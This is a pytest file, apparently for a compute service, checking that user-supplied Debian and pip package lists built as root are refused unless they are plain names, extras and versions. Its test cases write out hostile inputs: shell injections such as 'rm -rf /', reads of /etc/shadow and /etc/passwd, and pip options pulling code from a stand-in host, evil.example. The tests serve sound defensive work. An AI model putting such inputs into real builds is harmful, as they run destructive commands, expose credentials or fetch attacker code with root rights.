"""An environment's package lists are a workspace member's text that this machine builds
as root (mmdebstrap, then pip in the new root): nothing in them may become a command, an
option, a URL to fetch from, or a path to read, and no package's own code may run."""

from __future__ import annotations

import pytest

from compute.lib import images
from compute.rules.environments import SpecError, debian_packages, image_spec, pip_requirements


@pytest.mark.parametrize(
    "text",
    [
        "python3; rm -rf /",  # a shell command after a package
        "$(touch /tmp/owned)",
        "--allow-unauthenticated",  # an apt option
        "python3,--no-verify",
        "../../etc/passwd",
        "Python3",  # Debian names are lowercase
        "python3=1.0 `id`",
    ],
)
def test_debian_packages_are_names_only(text):
    with pytest.raises(SpecError) as refused:
        debian_packages(text)
    assert refused.value.field == "debian_packages"


@pytest.mark.parametrize(
    "text",
    [
        "--index-url http://evil.example/simple",  # another index
        "-r /etc/shadow",  # read a file of the host
        "-e git+https://evil.example/x.git#egg=x",
        "evil @ https://evil.example/evil-1.0.tar.gz",  # a direct URL (an sdist runs code)
        "evil @ file:///etc/shadow",
        "./local-folder",
        "six; os.system('id')",  # not a marker
        "x" * 300,
    ],
)
def test_pip_requirements_are_names_extras_and_versions_only(text):
    with pytest.raises(SpecError) as refused:
        pip_requirements(text)
    assert refused.value.field == "pip_requirements"


def test_what_is_accepted_is_normalised_so_one_spec_is_one_image():
    one = image_spec("python3-idna\nlibgomp1", "Six==1.16.0\nscikit_learn[all]>=1.3,<2")
    other = image_spec("libgomp1 python3-idna  # two", "scikit-learn[all]<2,>=1.3\nsix==1.16.0")
    assert one == other and one.hash == other.hash
    assert one.pip_requirements == ("scikit-learn[all]<2,>=1.3", "six==1.16.0")


def test_the_build_installs_wheels_only_and_passes_no_user_text_to_a_shell(tmp_path):
    step = images.pip_step(tmp_path / "requirements.txt")
    assert "--only-binary=:all:" in step  # no sdist: no package's setup.py runs as root
    assert "-r /tmp/hangar-requirements.txt" in step  # the list goes in a file, not the command
